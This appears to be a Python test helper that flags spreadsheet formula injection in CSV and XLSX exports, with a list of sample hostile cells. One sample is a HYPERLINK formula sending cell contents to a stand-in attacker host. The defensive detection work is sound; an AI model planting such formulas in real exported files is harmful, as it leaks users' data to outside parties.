"""What a spreadsheet would run in a file RRIS wrote: formula cells, and text cells that begin
like a formula (OWASP's list: =, +, -, @, tab, carriage return, also after leading blanks)."""

from __future__ import annotations

import csv
import io
import re

import openpyxl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Cells a spreadsheet reads as a plain number, like -12.5: no formula, nothing to neutralise.
_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
# What a spreadsheet would run if a file came back with these, unmarked.
HOSTILE = (
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
)


def _runs(text: str) -> bool:
    return (text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)) and not _NUMBER.match(text)


def csv_rows(text: str) -> list[list[str]]:
    """The rows of a CSV file, as a spreadsheet would split them."""
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def unsafe_csv_cells(text: str) -> list[str]:
    """Every cell of a CSV file that a spreadsheet would run as a formula."""
    return [cell for row in csv_rows(text) for cell in row if _runs(cell)]


def unsafe_xlsx_cells(data: bytes) -> list[str]:
    """Every formula cell of a workbook, and every text cell that begins like a formula."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and _runs(cell.value)):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found
